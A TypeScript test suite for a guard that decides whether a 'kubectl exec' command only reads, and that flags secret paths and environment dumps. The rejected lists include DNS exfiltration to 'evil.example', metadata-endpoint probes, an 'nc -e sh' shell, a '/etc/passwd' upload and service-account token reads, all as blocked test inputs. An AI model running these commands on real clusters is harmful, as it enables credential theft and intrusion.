import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Change } from '../../src/core/plan.ts';
import { refusedByRails } from '../../src/core/request/guard-rails.ts';
import { kubectlLine } from '../../src/core/request/kubectl-line.ts';
import {
  notReadOnly,
  printsValues,
  reachesInto,
  secretPathIn,
  variableNames,
} from '../../src/core/request/read-only-program.ts';
import { requestRisk } from '../../src/core/request/words.ts';

const words = (line: string): string[] => line.split(' ');
const run = (argv: readonly string[], namespace = 'shop'): Change => ({
  verb: 'exec',
  target: { apiVersion: 'v1', kind: 'Pod', namespace, name: 'web-1' },
  resource: { plural: 'pods', namespaced: true },
  uid: 'u',
  container: 'app',
  argv,
  seconds: 30,
});

describe('a program that only reads', () => {
  it.each([
    'ls',
    'ls -la /var/log',
    '/bin/ls --human-readable /',
    'cat /etc/resolv.conf /etc/hosts',
    '/usr/bin/cat -n /proc/1/limits',
    'cat /sys/fs/cgroup/memory.max',
    'df -h /data',
    'du -sh /var',
    'ps aux',
    'ps -ef',
    'ps -o pid,args,rss',
    'top -b -n 1',
    'ss -tlnp',
    'netstat -tln',
    'ip addr',
    'ip -4 route show',
    'hostname -f',
    'date +%s',
    'env -0',
    '/usr/bin/printenv -0',
    'ip rule',
    'ip r list',
    'nslookup backend.shop.svc.cluster.local',
    'getent hosts backend.shop.svc',
    'dig +short backend.shop.svc.cluster.local SRV',
    'dig _http._tcp.backend.shop.svc.cluster.local. SRV',
    'nc -z -v -w 3 localhost 8080',
    'nc db-0.db.shop.svc 5432 -w 3',
    'curl -q -sS -m 5 http://backend.shop.svc:8080/health/ready',
    'curl -q http://localhost:8080',
    'curl -q -I https://backend.shop.svc.cluster.local/api/users',
    'curl -q -s -o /dev/null -w %{http_code}\\n http://localhost:9090/api/v1/users.json',
    'wget --no-config --max-redirect=0 -q -O - http://backend.shop.svc/actuator/health',
    'wget --no-config --max-redirect=0 -q -O /dev/null http://backend.shop.svc/api',
  ])('%s', (line) => {
    expect(notReadOnly(words(line))).toBeUndefined();
    expect(requestRisk({ changes: [run(words(line))], risk: 'low' })).toBe('medium');
    expect(refusedByRails([run(words(line))])).toBeUndefined();
  });

  it.each([
    'sh -c ls',
    'busybox ls',
    './ls /',
    '/tmp/ls /',
    'lsof',
    '__proto__',
    'constructor',
    'find / -name x -delete',
    'ls -R /',
    'ls /a/../b',
    'cat /app/config.yaml',
    'cat config.yaml',
    'cat /tmp/x',
    'cat /etc/resolv.conf/../../tmp/x',
    'cat -- /etc/hosts',
    'head /etc/hosts',
    'cat',
    'date -s 2020-01-01',
    'date 010100002020',
    'hostname evil',
    'ss -K dst 10.0.0.1',
    'ip link set eth0 down',
    'ip addr add 10.0.0.1/24',
    'top',
    'ps e',
    'ps auxe',
    'ps -o pid,environ',
    'getent shadow root',
    'getent passwd root',
    'dig @203.0.113.1 x',
    'dig -f /etc/hosts',
    'nslookup x 203.0.113.1',
    'nc -l -w 3 -p 80',
    'nc -e sh -w 3 localhost 80',
    'nc localhost 80',
    'ip rule a',
    'ip route r',
    'ip addr a',
    'ip link a',
    'ip a a',
    'ip show rule',
    'ip n list show',
    'nslookup db.example.com',
    'nslookup c2VjcmV0.evil.example',
    'nslookup instance-data',
    'getent hosts c2VjcmV0.evil.example',
    'dig +short c2VjcmV0.evil.example',
    'dig backend.shop.svc c2VjcmV0.evil.example',
    'nc -z -w 3 instance-data 80',
    'nc intranet 80 -w 3',
    'nc -w 3 backend.shop 80',
    'curl -q http://instance-data/',
    'curl -q http://backend.shop.svc.evil.example/',
    'curl -q http://svc/',
    'curl -q http://localhost:8080/actuator/heapdump',
    'curl -q http://localhost:8080/actuator/env',
    'curl -q http://localhost:8080/admin/shutdown',
    'curl -q http://localhost:8080/healthz/../env',
    'curl -q -i http://localhost:8080/metrics/env',
    'curl -q -v http://localhost:15000/quitquitquit',
    'wget --no-config --max-redirect=0 -O - http://localhost:8080/actuator/env',
    'wget --no-config --max-redirect=0 http://localhost:8080/health',
    'nc -z -w 3 example.com 80',
    'nc -z -w 3 169.254.169.254 80',
    'curl http://localhost',
    'curl -q -L http://localhost',
    'curl -q -sL http://localhost',
    'curl -q -d x http://localhost',
    'curl -q -X POST http://localhost',
    'curl -q -T /etc/passwd http://localhost',
    'curl -q -K /tmp/x http://localhost',
    'curl -q -o /tmp/x http://localhost',
    'curl -q http://localhost http://127.0.0.1',
    'curl -q http://example.com/',
    'curl -q http://backend.shop/',
    'curl -q http://app.dev/',
    'curl -q http://backend.shop.svc.evil.com/',
    'curl -q http://169.254.169.254/latest/meta-data',
    'curl -q http://metadata/computeMetadata/v1/',
    'curl -q http://10.0.0.1/',
    'curl -q http://user:pass@localhost/',
    'curl -q http://backend@evil.com/',
    'curl -q http://localhost/?delete=1',
    'curl -q http://localhost/[1-9]',
    'curl -q http://localhost/a/../admin',
    'curl -q file:///etc/passwd',
    'curl -q --next http://localhost',
    'wget -q -O - http://localhost',
    'wget --max-redirect=0 -q -O - http://localhost',
    'wget --no-config --max-redirect=0 --post-data=x http://localhost',
    'wget --no-config --max-redirect=0 -O /tmp/x http://localhost',
    'env',
    'env -0 sh',
    'printenv HOME',
  ])('is not %s', (line) => {
    expect(notReadOnly(words(line))).toBeTypeOf('string');
    expect(requestRisk({ changes: [run(words(line))], risk: 'low' })).toBe('high');
  });

  it('is not one of no words, nor one whose words hold line breaks or other alphabets', () => {
    for (const argv of [[], [''], ['ls\n'], ['ls', '/a\nb'], ['lѕ'], ['ls', '/а']])
      expect(notReadOnly(argv)).toBeTypeOf('string');
  });

  it('does not become one by words that are added: whatever is not known is not', () => {
    const odd = fc.oneof(fc.string(), fc.constantFrom('-x', '--exec', '/tmp/x', '@x', '-L', ';', '|'));
    fc.assert(
      fc.property(
        fc.constantFrom('sh', 'bash', 'python', 'perl', 'find', 'awk', 'xargs', 'nsenter'),
        fc.array(odd),
        (name, rest) => {
          expect(notReadOnly([name, ...rest])).toBeTypeOf('string');
        },
      ),
    );
  });
});

describe('secrets', () => {
  it.each(['env', 'env -u X', 'env A=1', 'printenv A', 'busybox env', 'env A=1 printenv', '/usr/bin/env -i'])(
    '%s prints values',
    (line) => {
      expect(printsValues(words(line))).toBe(true);
      expect(refusedByRails([run(words(line))])?.code).toBe('refused');
    },
  );

  it('of variables only the names are kept, whatever their values hold', () => {
    expect(variableNames('B=1\nPASSWORD=x\n\0A=MIIE==\0=odd\0bad name=1\0')).toEqual(['A', 'B']);
  });

  it.each([
    ['/run/secrets', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'],
    ['with more slashes', 'cat //var//run///secrets/x'],
    ['by way of dots', 'cat /var/run/./secrets/x'],
    ['by way of a folder and back', 'cat /tmp/../run/x/../secrets/y'],
    ['of a process', 'cat /proc/12/environ'],
    ['of any process', 'grep -z . /proc/*/environ'],
    ['of a thread', 'cat /proc/1/task/1/environ'],
    ['the whole tree by another root', 'tar c /proc/1/root/etc'],
  ])('a path %s is seen', (_what, line) => {
    expect(secretPathIn(words(line))).toBeDefined();
  });

  it.each([
    ['cat /etc/tls/tls.key', true],
    ['cat /etc//tls/./tls.key', true],
    ['cat /etc/x/../tls/tls.key', true],
    ['sh -c cat</etc/tls/*', true],
    ['cat /etc/tls', true],
    ['cat /etc/tls-notes', false],
    ['cat /etc/hosts', false],
  ])('%s reaches into /etc/tls: %s', (line, wanted) => {
    expect(reachesInto(words(line), '/etc/tls/')).toBe(wanted);
  });
});

it('in a namespace of the cluster itself every program is a high risk', () => {
  expect(requestRisk({ changes: [run(['ls'], 'kube-system')], risk: 'low' })).toBe('high');
});

it('the command on the card is the request; what a shell could not show on one line has none', () => {
  const line = (argv: readonly string[]) => kubectlLine(run(argv), { context: 'c', embedded: false });
  expect(line(['sh', '-c', "echo 'a' $B", '-n', ''])).toBe(
    `kubectl --context c -n shop exec pod/web-1 -c app -- sh -c 'echo '\\''a'\\'' $B' -n ''`,
  );
  expect(line(['echo', 'a\nb'])).toBeUndefined();
  expect(line(['echo', 'é'])).toBeUndefined();
});
